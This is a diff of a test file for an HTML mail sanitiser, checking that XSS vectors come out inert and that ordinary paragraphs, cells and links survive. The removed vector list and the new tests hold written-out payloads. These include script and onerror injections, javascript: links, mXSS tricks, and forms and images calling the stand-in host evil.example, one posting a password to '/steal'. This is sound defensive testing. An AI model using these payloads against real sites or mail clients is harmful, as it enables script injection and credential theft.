@@ -1,6 +1,7 @@
 import { JSDOM } from 'jsdom';
 import { describe, expect, it } from 'vitest';
 import { BLOCKED_SRC_ATTR, sanitizeHtml, textToHtml } from './sanitize';
+import { interleavedHostileMail, xssVectors } from './testing/hostile-mail';
 
 /** Asserts the sanitised HTML holds nothing that could run, navigate or fetch by itself. */
 function assertInert(html: string) {
@@ -31,74 +32,63 @@ function assertInert(html: string) {
   expect(html).not.toMatch(/(?:href|src)\s*=\s*["']?\s*javascript:/i);
 }
 
-// Vectors after the DOMPurify fixtures, Cure53 H5SC, the OWASP filter-evasion cheat sheet and the
-// Roundcube CVEs (SVG animate/use, namespace tricks, CSS escapes), written as our own cases.
-const VECTORS: Array<[string, string]> = [
-  ['script', '<script>alert(1)</script>'],
-  ['script in head', '<html><head><script>alert(1)</script></head><body>x</body></html>'],
-  ['img onerror', '<img src=x onerror=alert(1)>'],
-  ['img onerror no quotes', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
-  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
-  ['javascript href entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
-  ['javascript href colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
-  ['javascript href upper', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
-  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
-  ['data text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
-  ['file link', '<a href="file:///etc/passwd">x</a>'],
-  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
-  ['meta refresh in body', '<body><meta http-equiv="refresh" content="0;url=javascript:alert(1)"></body>'],
-  ['base', '<base href="https://evil.example/"><a href="/x">x</a>'],
-  ['form', '<form action="https://evil.example/steal"><input name=p type=password><button>go</button></form>'],
-  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
-  ['iframe', '<iframe src="https://evil.example"></iframe>'],
-  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
-  ['object', '<object data="https://evil.example/x.swf"></object>'],
-  ['embed', '<embed src="https://evil.example/x.swf">'],
-  ['svg script', '<svg><script>alert(1)</script></svg>'],
-  ['svg onload', '<svg onload=alert(1)>'],
-  ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>'],
-  ['svg set href ns', '<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:alert(1)"/></a></svg>'],
-  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>'],
-  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
-  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
-  ['mXSS style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
-  ['details ontoggle', '<details open ontoggle=alert(1)>'],
-  ['body onload', '<body onload=alert(1)>x</body>'],
-  ['video poster', '<video poster="https://evil.example/p.png"><source src=x onerror=alert(1)></video>'],
-  ['link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
-  ['style import', '<style>@import url(https://evil.example/x.css); p{color:red}</style>'],
-  ['style import string', '<style>@import "https://evil.example/x.css";</style>'],
-  ['style remote url', '<style>body{background:url("https://evil.example/t.png")}</style>'],
-  ['style attr remote url', '<div style="background-image:url(https://evil.example/t.png)">x</div>'],
-  ['style attr css escape', '<div style="background:\\75 rl(https://evil.example/t.png)">x</div>'],
-  ['style attr escaped letters', '<div style="background:u\\rl(https://evil.example/t.png)">x</div>'],
-  ['style image-set', '<div style="background-image:image-set(\'https://evil.example/t.png\' 1x)">x</div>'],
-  ['style expression', '<div style="width:expression(alert(1))">x</div>'],
-  ['td background', '<table><tr><td background="https://evil.example/t.png">x</td></tr></table>'],
-  ['img srcset', '<img srcset="https://evil.example/t.png 1x">'],
-  ['img relative src', '<img src="/api/image-proxy?url=https://evil.example/t.png">'],
-  ['img protocol-relative src', '<img src="//evil.example/t.png">'],
-  ['data svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
-  ['input image', '<input type=image src="https://evil.example/t.png">'],
-  ['a ping', '<a href="https://ok.example" ping="https://evil.example/ping">x</a>'],
-  ['target top', '<a href="https://ok.example" target="_top">x</a>'],
-  ['relative link', '<a href="/api/account/1/alias/1/message/1">x</a>'],
-  ['protocol-relative link', '<a href="//evil.example/">x</a>'],
-  ['area', '<map><area href="javascript:alert(1)"></map>'],
-  ['namespace attr', '<p xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)">x</p>'],
-  ['dom clobbering', '<form id=x><input id=y></form><img name=body>'],
-  ['template', '<template><script>alert(1)</script></template>'],
-  ['unclosed comment', '<!--<img src=x onerror=alert(1)>--!><img src=x onerror=alert(2)>'],
-  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
-  ['nested quotes', '<img """><script>alert(1)</script>">'],
-  ['tracking pixel', '<img src="https://tracker.example/p.gif" width="1" height="1">'],
-];
+const VECTORS = xssVectors('https://evil.example');
 
 describe('sanitizeHtml: XSS vectors (H1, H12)', () => {
   it.each(VECTORS)('%s', (_name, vector) => {
     assertInert(sanitizeHtml(vector).html);
     assertInert(sanitizeHtml(vector, { remoteImages: 'proxy', proxyUrl: (u) => `/api/image-proxy?url=${encodeURIComponent(u)}` }).html
       .replace(/src="\/api\/image-proxy[^"]*"/g, ''));
+  });
+});
+
+describe('sanitizeHtml: hostile markup removes only itself', () => {
+  const proxy = { remoteImages: 'proxy' as const, proxyUrl: (u: string) => `/api/image-proxy?url=${encodeURIComponent(u)}` };
+
+  it('keeps every ordinary paragraph, table cell and link of a mail interleaving all vectors', () => {
+    const mail = interleavedHostileMail('https://evil.example');
+    for (const opts of [{}, proxy]) {
+      const html = sanitizeHtml(mail.html, opts).html;
+      assertInert(html.replace(/src="\/api\/image-proxy[^"]*"/g, ''));
+      const doc = new JSDOM(html).window.document;
+      const paragraphs = [...doc.querySelectorAll('p')].map((p) => p.textContent);
+      const cells = [...doc.querySelectorAll('td')].map((td) => td.textContent);
+      const links = [...doc.querySelectorAll('a[href]')].map((a) => ({ text: a.textContent, href: a.getAttribute('href') }));
+      for (const p of mail.paragraphs) expect(paragraphs, p).toContain(p);
+      for (const c of mail.cells) expect(cells, c).toContain(c);
+      for (const l of mail.links) expect(links, l.text).toContainEqual(l);
+      // None of them ended up inside something that hides or reinterprets its content.
+      for (const el of doc.querySelectorAll('p, td, a')) expect(el.closest('style, title, select, option, textarea, head')).toBeNull();
+    }
+  });
+
+  it.each([
+    ['iframe', '<iframe src="https://evil.example/">'],
+    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+    ['xmp', '<xmp>'],
+    ['plaintext', '<plaintext>'],
+    ['comment', '<!--'],
+    ['svg', '<svg><g><text>'],
+    ['math namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
+    ['nested openers', '<noembed><iframe><textarea><template><title>'],
+  ])('an unclosed %s does not take the rest of the mail', (_name, opener) => {
+    const html = sanitizeHtml(`<p>Before</p>${opener}<p>After <b>this</b></p><table><tr><td>Cell</td></tr></table>`).html;
+    assertInert(html);
+    const doc = new JSDOM(html).window.document;
+    expect([...doc.querySelectorAll('p')].map((p) => p.textContent)).toEqual(expect.arrayContaining(['Before', 'After this']));
+    expect(doc.querySelector('td')?.textContent).toBe('Cell');
+  });
+
+  it('cuts exactly the opener in mails with CRLF line ends and characters beyond the BMP', () => {
+    const html = sanitizeHtml('<p>😀 𝒳 é</p>\r\n<iframe src="https://evil.example/">\r\n<p>After 😀</p>\r\n<!--\r\n<p>Last</p>').html;
+    const doc = new JSDOM(html).window.document;
+    expect([...doc.querySelectorAll('p')].map((p) => p.textContent)).toEqual(['😀 𝒳 é', 'After 😀', 'Last']);
+  });
+
+  it('still drops hostile content that is closed, and keeps an ordinary comment out', () => {
+    const html = sanitizeHtml('<p>a</p><iframe>x<p>inside</p></iframe><!-- note --><svg><text>svg text</text></svg><p>b</p>').html;
+    expect(html).not.toMatch(/inside|svg text|note/);
+    expect(html).toMatch(/<p>a<\/p>.*<p>b<\/p>/s);
   });
 });
 
